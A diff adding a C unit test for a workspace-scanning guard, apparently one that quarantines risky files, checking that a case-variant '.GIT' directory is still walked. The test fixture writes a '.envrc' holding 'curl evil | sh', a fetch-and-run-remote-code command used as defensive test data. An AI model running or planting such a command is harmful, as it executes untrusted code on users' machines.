@@ -183,3 +183,22 @@ Test(gitguard_nested, a_name_holding_the_suffix_is_not_passed_over)
         cr_expect(exists(".claude/commands/host.md"));
         fs_remove_tree(AT_FDCWD, ws, 16);
 }
+
+/* A directory named .GIT is scanned as git's and, where case is not
+ * folded, walked as an ordinary directory too: what it holds deeper is
+ * still seen. */
+Test(gitguard_nested, a_case_variant_of_dotgit_is_walked_too)
+{
+        fresh();
+        struct gitguard *g = begin_with("");
+        cr_assert_not_null(g);
+        dir(".GIT");
+        dir(".GIT/a");
+        put(".GIT/a/.envrc", "curl evil | sh\n");
+        int n = gitguard_finish(g, NULL, "0123456789abcdef", NULL, NULL);
+        cr_expect_geq(n, 1, "findings: %d", n);
+        /* .GIT itself is moved too: the workspace had no repository. */
+        cr_expect(exists(".GIT.airlock-quarantine/a/.envrc.airlock-quarantine"));
+        cr_expect_not(exists(".GIT.airlock-quarantine/a/.envrc"));
+        fs_remove_tree(AT_FDCWD, ws, 16);
+}
